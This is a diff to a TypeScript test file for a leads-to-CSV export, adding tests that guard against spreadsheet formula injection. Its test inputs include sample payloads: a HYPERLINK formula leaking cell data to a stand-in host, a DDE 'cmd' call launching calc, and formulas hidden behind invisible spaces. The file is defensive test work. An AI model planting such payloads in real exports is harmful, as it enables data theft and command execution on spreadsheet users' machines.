@@ -1,7 +1,7 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
-import { leadsToCsv, leadsToCsvBlob, UTF8_BOM, type CsvCell, type CsvColumn } from './leads-to-csv';
+import { defuseFormula, leadsToCsv, leadsToCsvBlob, UTF8_BOM, type CsvCell, type CsvColumn } from './leads-to-csv';
 
 type Row = { a: CsvCell; b: CsvCell };
 const columns: CsvColumn<Row>[] = [
@@ -19,7 +19,7 @@ function parse(csv: string): string[][] {
 describe('leadsToCsv', () => {
   it('starts with a UTF-8 BOM and a header row, CRLF between lines', () => {
     const csv = leadsToCsv([{ a: 1, b: 'x' }], columns);
-    expect(csv).toBe(`${UTF8_BOM}A,B\r\n1,x`);
+    expect(csv).toBe(`${UTF8_BOM}"A","B"\r\n1,"x"`);
   });
 
   it('quotes commas, quotes and newlines so they parse back unchanged', () => {
@@ -73,7 +73,7 @@ describe('leadsToCsv', () => {
   });
 
   it('writes just the header for no rows, and can omit the BOM', () => {
-    expect(leadsToCsv([], columns, { bom: false })).toBe('A,B');
+    expect(leadsToCsv([], columns, { bom: false })).toBe('"A","B"');
   });
 
   it('guards and escapes the header row too', () => {
@@ -86,8 +86,7 @@ describe('leadsToCsv', () => {
       fc.property(fc.array(fc.tuple(fc.string(), fc.string()), { maxLength: 20 }), (pairs) => {
         const rows: Row[] = pairs.map(([a, b]) => ({ a, b }));
         const parsed = Papa.parse<string[]>(leadsToCsv(rows, columns).slice(1), { header: false, delimiter: ',' }).data.slice(1);
-        const guard = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
-        expect(parsed).toEqual(rows.map((r) => [guard(String(r.a)), guard(String(r.b))]));
+        expect(parsed).toEqual(rows.map((r) => [defuseFormula(String(r.a)), defuseFormula(String(r.b))]));
       }),
       { numRuns: 200 },
     );
@@ -115,5 +114,72 @@ describe('leadsToCsvBlob', () => {
 
   it('joins to the one-shot CSV for no rows', async () => {
     expect(await (await leadsToCsvBlob([], columns, { bom: false })).text()).toBe(leadsToCsv([], columns, { bom: false }));
+  });
+});
+
+// How a spreadsheet would cut a line: Excel with a `;` list separator (Spanish, Portuguese, German
+// settings), an import wizard on tab or `,`; the worst case ignores the quotes altogether.
+const SKIPPED_ON_IMPORT = /^"?[ \n\v\f\u00A0\u1680\u180E\u2000-\u200F\u2028-\u202F\u205F-\u2064\u3000\uFEFF]*/;
+function formulaPieces(csv: string): string[] {
+  const risky: string[] = [];
+  for (const line of csv.replace(UTF8_BOM, '').split('\r\n')) {
+    const pieces = [
+      ...Papa.parse<string[]>(line, { delimiter: ';' }).data.flat(),
+      ...Papa.parse<string[]>(line, { delimiter: '\t' }).data.flat(),
+      ...line.split(/[;,\t]/),
+    ];
+    for (const piece of pieces) {
+      const start = piece.replace(SKIPPED_ON_IMPORT, '');
+      if (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(start)) risky.push(piece);
+    }
+  }
+  return risky;
+}
+
+describe('formula injection (issue 11, attack 5)', () => {
+  const names = [
+    'Acme;=HYPERLINK("http://evil.example/?d="&A1;"Open")',
+    'Acme\t=1+1',
+    '\u00A0=cmd|\' /C calc\'!A0',
+    '\u200B\u200D=1+1',
+    '\uFEFF+SUM(1;2)',
+    '  @SUM(A1:A9)',
+    'Deal,-2+3',
+    'Deal; \u00A0=1',
+    'Ana Souza (+55 11 5555-0101, +55 21 5555-0202)',
+    '\uFF1D1+1',
+  ];
+
+  it('opens every cell with ;=, tab-=, NBSP-= and zero-width-= as text, however the line is split', () => {
+    const rows: Row[] = names.map((a) => ({ a, b: 'ok' }));
+    const csv = leadsToCsv(rows, columns);
+    expect(formulaPieces(csv)).toEqual([]);
+    // Without defusing the same test sees the attacks: it can fail.
+    expect(formulaPieces(names.join('\r\n')).length).toBeGreaterThanOrEqual(names.length);
+  });
+
+  it('keeps the text readable: one apostrophe before each piece that would run', () => {
+    expect(defuseFormula('Acme;=HYPERLINK("x")')).toBe('Acme;\'=HYPERLINK("x")');
+    expect(defuseFormula('\u00A0=1')).toBe("'\u00A0=1");
+    expect(defuseFormula('Acme\t=1')).toBe("Acme\t'=1");
+    expect(defuseFormula('Ana (+55 11, +55 21)')).toBe("Ana (+55 11, '+55 21)");
+    expect(defuseFormula('Acme, Inc. – São Paulo; VIP')).toBe('Acme, Inc. – São Paulo; VIP');
+    expect(defuseFormula('a=b - c')).toBe('a=b - c');
+  });
+
+  it('quotes every text cell, and leaves numbers bare', () => {
+    const csv = leadsToCsv([{ a: 'Acme;Ltd', b: -42 }], columns, { bom: false });
+    expect(csv.split('\r\n')[1]).toBe('"Acme;Ltd",-42');
+  });
+
+  it('leaves no piece that runs for any text (property)', () => {
+    const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ';', ',', ' ', '\u00A0', '\u200B', '\uFEFF', 'a', '1', '"', '\n');
+    fc.assert(
+      fc.property(fc.array(fc.array(piece, { maxLength: 12 }).map((p) => p.join('')), { minLength: 1, maxLength: 5 }), (texts) => {
+        const csv = leadsToCsv(texts.map((a) => ({ a, b: '' })), columns);
+        expect(formulaPieces(csv)).toEqual([]);
+      }),
+      { numRuns: 300 },
+    );
   });
 });
